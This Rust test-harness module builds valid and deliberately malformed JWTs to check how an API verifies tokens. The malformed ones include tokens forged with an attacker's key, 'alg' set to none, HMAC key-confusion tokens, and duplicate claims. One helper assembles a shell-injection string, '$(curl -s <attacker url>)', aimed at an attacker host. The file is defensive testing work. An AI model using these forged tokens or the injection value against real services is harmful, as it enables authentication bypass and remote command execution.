//! The parts of the cases: keys, the header and claims of a valid token, and ways to change one thing.

use std::io;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, SystemTime};

use aws_lc_rs::hmac;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use super::keys::{EcKey, UnfitKey, certificate};
use crate::{Deployment, SigningKey, base64url};

/// The `kid`s of the keys that the issuer publishes.
pub(crate) const MAIN: &str = "check-1";
pub(crate) const ROTATED: &str = "check-2";
pub(crate) const NEXT: &str = "check-3";

/// How a case sends its token.
#[derive(Debug)]
pub(crate) enum Request {
    /// Where the API expects the token: `Authorization: Bearer`, or the header of `--header`.
    Token(String),
    /// No token at all.
    Nothing,
    /// These `Authorization` headers, unchanged.
    Authorization(Vec<String>),
    /// In another header.
    Header(&'static str, String),
    /// In the query, as `access_token`.
    Query(String),
    /// In the body of a form (RFC 6750, section 2.2).
    Form(String),
    /// The first token, which the API must accept, and then the second token, whose answer counts.
    AfterAccepted(String, String),
    /// No token, by this method.
    Method(&'static str),
    /// No token, and this other spelling of the path.
    Path(fn(&str) -> Option<String>),
    /// The case can't be tried with these options.
    Skip(&'static str),
}

/// The keys, and the claims of a valid token.
pub(crate) struct Kit {
    pub(crate) issuer: String,
    pub(crate) audience: String,
    pub(crate) subject: String,
    pub(crate) deployment: Deployment,
    /// Whether the subject has Vercel's form, so that a case can change one part of it.
    pub(crate) has_vercel_subject: bool,
    /// The origin of the attacker's host.
    pub(crate) attacker_origin: String,
    keys: Arc<Keys>,
    /// How many tokens were made, so that no two tokens have the same claims.
    tokens: AtomicU64,
}

/// The keys of a check. The issuer publishes the second RSA key under several `kid`s.
pub(crate) struct Keys {
    pub(crate) main: SigningKey,
    pub(crate) rotated: SigningKey,
    /// A key that the issuer never publishes.
    pub(crate) attacker: SigningKey,
    pub(crate) small: UnfitKey,
    pub(crate) exponent_one: UnfitKey,
    pub(crate) ec: EcKey,
}

impl Keys {
    /// Makes the keys, each RSA key on its own thread.
    ///
    /// # Errors
    ///
    /// The system has no randomness.
    pub(crate) fn generate() -> io::Result<Self> {
        let [main, rotated, attacker] =
            [MAIN, ROTATED, "attacker"].map(|kid| std::thread::spawn(move || SigningKey::generate(kid)));
        let key = |thread: std::thread::JoinHandle<io::Result<SigningKey>>| {
            thread.join().unwrap_or_else(|_| Err(io::Error::other("the thread that made a key has panicked")))
        };
        Ok(Self {
            main: key(main)?,
            rotated: key(rotated)?,
            attacker: key(attacker)?,
            small: UnfitKey::small(),
            exponent_one: UnfitKey::with_exponent_one(&[0xff; 256]),
            ec: EcKey::generate()?,
        })
    }
}

impl std::ops::Deref for Kit {
    type Target = Keys;

    fn deref(&self) -> &Keys {
        &self.keys
    }
}

impl Kit {
    /// Makes the parts for an API that trusts this issuer, audience and subject.
    pub(crate) fn new(issuer: &str, audience: &str, subject: &str, attacker_origin: &str, keys: Arc<Keys>) -> Self {
        let vercel = vercel_subject(subject);
        Self {
            issuer: issuer.to_owned(),
            audience: audience.to_owned(),
            subject: subject.to_owned(),
            deployment: deployment(subject),
            has_vercel_subject: vercel.is_some(),
            attacker_origin: attacker_origin.to_owned(),
            keys,
            tokens: AtomicU64::new(0),
        }
    }

    /// Returns the header of a valid token.
    pub(crate) fn header(&self) -> Value {
        json!({ "alg": "RS256", "typ": "JWT", "kid": MAIN })
    }

    /// Returns the header with one member changed; `null` removes it.
    pub(crate) fn header_but(&self, name: &str, value: Value) -> Value {
        changed(self.header(), name, value)
    }

    /// Returns the claims of a valid token.
    pub(crate) fn claims(&self) -> Value {
        self.claims_of(&self.deployment, SystemTime::now())
    }

    fn claims_of(&self, deployment: &Deployment, now: SystemTime) -> Value {
        // A cache of tokens that leaves a part out would otherwise only show if two tokens are made in one second.
        let number = self.tokens.fetch_add(1, Ordering::Relaxed);
        let mut claims = deployment.claims(&self.issuer, now, Duration::from_secs(3600 + number));
        claims["aud"] = json!(self.audience);
        if deployment.subject() == self.deployment.subject() {
            claims["sub"] = json!(self.subject);
        }
        claims
    }

    /// Returns a valid token.
    pub(crate) fn good(&self) -> String {
        self.signed(&self.header(), &self.claims())
    }

    /// Returns a token with this header and these claims, signed with the issuer's first key.
    pub(crate) fn signed(&self, header: &Value, claims: &Value) -> String {
        self.main.sign(header.to_string().as_bytes(), claims.to_string().as_bytes())
    }

    /// A token with one changed member of the header. The issuer has signed it.
    pub(crate) fn with_header(&self, name: &str, value: Value) -> Request {
        Request::Token(self.signed(&self.header_but(name, value), &self.claims()))
    }

    /// A token with one changed claim; `null` removes it. The issuer has signed it.
    pub(crate) fn with_claim(&self, name: &str, value: Value) -> Request {
        Request::Token(self.signed(&self.header(), &changed(self.claims(), name, value)))
    }

    /// A token with this JSON text as one claim, because [`Value`] can't hold every JSON text.
    pub(crate) fn with_claim_text(&self, name: &str, text: &str) -> Request {
        let claims = changed(self.claims(), name, Value::Null).to_string();
        self.with_payload(&format!("{{\"{name}\":{text},{}", &claims[1..]))
    }

    /// A token with one claim twice. The issuer has signed it.
    pub(crate) fn with_claim_twice(&self, name: &str, first: &Value, last: &Value) -> Request {
        let claims = changed(self.claims(), name, last.clone()).to_string();
        self.with_payload(&format!("{{\"{name}\":{first},{}", &claims[1..]))
    }

    /// A token with this payload and a valid header. The issuer has signed it.
    pub(crate) fn with_payload(&self, payload: &str) -> Request {
        Request::Token(self.main.sign(self.header().to_string().as_bytes(), payload.as_bytes()))
    }

    /// The token of another deployment, with the accepted `iss` and `aud`.
    pub(crate) fn of(&self, change: impl FnOnce(&mut Deployment)) -> Request {
        if !self.has_vercel_subject {
            return Request::Skip("the subject does not have Vercel's form");
        }
        let mut deployment = self.deployment.clone();
        change(&mut deployment);
        // Another team or project has other ids, as at Vercel.
        if deployment.team != self.deployment.team {
            "team_another".clone_into(&mut deployment.team_id);
        }
        if (&deployment.team, &deployment.project) != (&self.deployment.team, &self.deployment.project) {
            "prj_another".clone_into(&mut deployment.project_id);
        }
        Request::Token(self.signed(&self.header(), &self.claims_of(&deployment, SystemTime::now())))
    }

    /// A token that expires at this time, and was made an hour before.
    pub(crate) fn expiring(&self, expiry: SystemTime) -> String {
        let made = crate::unix_seconds(expiry - Duration::from_secs(3600));
        let times = [("nbf", made), ("iat", made), ("exp", crate::unix_seconds(expiry))];
        // The number of the token makes it unlike each other token.
        let number = json!(self.tokens.fetch_add(1, Ordering::Relaxed).to_string());
        let claims = changed(self.claims(), "jti", number);
        let claims = times.iter().fold(claims, |claims, (name, time)| changed(claims, name, json!(time)));
        self.signed(&self.header(), &claims)
    }

    /// Valid claims and this header, signed with an attacker's key.
    pub(crate) fn forged(&self, header: &Value) -> Request {
        Request::Token(self.attacker.sign(header.to_string().as_bytes(), self.claims().to_string().as_bytes()))
    }

    /// Valid claims and this header, with the signature that `sign` returns.
    pub(crate) fn signed_by(&self, header: &Value, sign: impl FnOnce(&[u8]) -> Vec<u8>) -> Request {
        let message = message(header, &self.claims());
        Request::Token(format!("{message}.{}", base64url(sign(message.as_bytes()))))
    }

    /// Valid claims, signed by HMAC with this secret.
    pub(crate) fn hmac(&self, kid: &str, alg: &str, secret: &[u8]) -> Request {
        let algorithm = match alg {
            "HS384" => hmac::HMAC_SHA384,
            "HS512" => hmac::HMAC_SHA512,
            _ => hmac::HMAC_SHA256,
        };
        let header = json!({ "alg": alg, "typ": "JWT", "kid": kid });
        self.signed_by(&header, |message| hmac::sign(&hmac::Key::new(algorithm, secret), message).as_ref().to_vec())
    }

    /// Valid claims with this `alg` and an empty signature.
    pub(crate) fn unsigned(&self, alg: &str) -> Request {
        self.signed_by(&self.header_but("alg", json!(alg)), |_| Vec::new())
    }

    /// A valid token, with its three parts rewritten.
    pub(crate) fn rewritten(&self, rewrite: impl FnOnce([String; 3]) -> String) -> Request {
        let token = self.good();
        let mut parts = token.split('.').map(str::to_owned);
        Request::Token(rewrite([(); 3].map(|()| parts.next().unwrap_or_default())))
    }

    /// A token whose parts are encoded like this before the issuer signs them, so that the signature is valid.
    pub(crate) fn encoded(&self, encode: impl Fn(usize, &[u8]) -> String) -> Request {
        // A part whose length is a multiple of three bytes has neither padding nor spare bits.
        let text = |json: Value| json.to_string() + if json.to_string().len().is_multiple_of(3) { " " } else { "" };
        let (header, mut claims) = (text(self.header()), text(self.claims()));
        loop {
            let message = format!("{}.{}", encode(0, header.as_bytes()), encode(1, claims.as_bytes()));
            let signature = self.main.signature(message.as_bytes());
            // One signature in 50,000 has neither `-` nor `_`, so it is the same in both alphabets of base64.
            if base64url(&signature).contains(['-', '_']) {
                return Request::Token(format!("{message}.{}", encode(2, &signature)));
            }
            claims.push_str("   ");
        }
    }

    /// Returns a URL on the attacker's host for this case.
    pub(crate) fn attacker_url(&self, case: &str, path: &str) -> String {
        format!("{}/{case}{path}", self.attacker_origin)
    }

    /// Returns a text that names an address on the attacker's host, and that fetches it if a shell reads the text: as a
    /// word, in double quotes, or in single quotes.
    pub(crate) fn address_and_command(&self, case: &str) -> String {
        let url = self.attacker_url(case, "/.well-known/jwks");
        format!("{url}#$(curl -s {url})'$(curl -s {url})'")
    }

    /// Returns the certificate of the attacker's key.
    pub(crate) fn attacker_certificate(&self) -> Vec<u8> {
        certificate(&self.attacker.public_key_info(), |message| self.attacker.signature(message))
    }

    /// Returns the attacker's public key, as a JWKS has it.
    pub(crate) fn attacker_jwk(&self, kid: &str) -> Value {
        changed(self.attacker.jwk(), "kid", json!(kid))
    }

    /// Returns what the issuer publishes in this phase.
    pub(crate) fn published(&self, phase: Phase) -> Vec<Value> {
        let next = |kid: &str, changes: &[(&str, Value)]| {
            let jwk = changed(self.rotated.jwk(), "kid", json!(kid));
            changes.iter().fold(jwk, |jwk, (name, value)| changed(jwk, name, value.clone()))
        };
        match phase {
            Phase::First => vec![self.main.jwk()],
            Phase::Rotated => vec![self.main.jwk(), self.rotated.jwk()],
            // The keys that must be skipped come first, so that a parser that stops at such a key fails a case.
            Phase::Odd => vec![
                self.ec.jwk("ec"),
                json!({ "kty": "oct", "k": base64url(OCT_SECRET), "kid": "oct", "use": "sig" }),
                json!({ "kty": "a-kind-of-key-from-the-future", "kid": "future" }),
                self.small.jwk("small"),
                self.exponent_one.jwk("exponent-one"),
                next("encryption", &[("use", json!("enc")), ("alg", Value::Null)]),
                next("no-verify", &[("use", Value::Null), ("key_ops", json!(["encrypt", "wrapKey"]))]),
                next("rs512", &[("alg", json!("RS512"))]),
                next("no-alg", &[("alg", Value::Null)]),
                self.rotated.jwk(),
                next(NEXT, &[]),
            ],
        }
    }
}

/// The symmetric key in the JWKS. It is published, so an attacker has it, too.
pub(crate) const OCT_SECRET: &[u8] = b"a symmetric key that the whole world can read";

/// Which keys the issuer publishes.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Phase {
    /// One key.
    First,
    /// Two keys.
    Rotated,
    /// The first key is withdrawn. A third key and keys that must not be used are added.
    Odd,
}

/// Returns the JSON object with one member changed; `null` removes it.
pub(crate) fn changed(mut object: Value, name: &str, value: Value) -> Value {
    if let Some(members) = object.as_object_mut() {
        match value {
            Value::Null => drop(members.remove(name)),
            value => drop(members.insert(name.to_owned(), value)),
        }
    }
    object
}

/// Returns the text that is signed: the first two parts of a token.
pub(crate) fn message(header: &Value, claims: &Value) -> String {
    format!("{}.{}", base64url(header.to_string().as_bytes()), base64url(claims.to_string().as_bytes()))
}

/// Returns a PEM file.
pub(crate) fn pem(label: &str, der: &[u8]) -> String {
    let text = STANDARD.encode(der);
    let lines: Vec<_> = text.as_bytes().chunks(64).map(String::from_utf8_lossy).collect();
    format!("-----BEGIN {label}-----\n{}\n-----END {label}-----\n", lines.join("\n"))
}

/// Returns the deployment that has this subject.
pub(crate) fn deployment(subject: &str) -> Deployment {
    let mut deployment = Deployment::default();
    if let Some([team, project, environment]) = vercel_subject(subject) {
        (deployment.team, deployment.project) = (team.to_owned(), project.to_owned());
        environment.clone_into(&mut deployment.environment);
    }
    deployment
}

/// Returns team, project and environment of a subject in Vercel's form.
fn vercel_subject(subject: &str) -> Option<[&str; 3]> {
    let parts: Vec<_> = subject.split(':').collect();
    match parts[..] {
        ["owner", team, "project", project, "environment", environment] => Some([team, project, environment]),
        _ => None,
    }
}
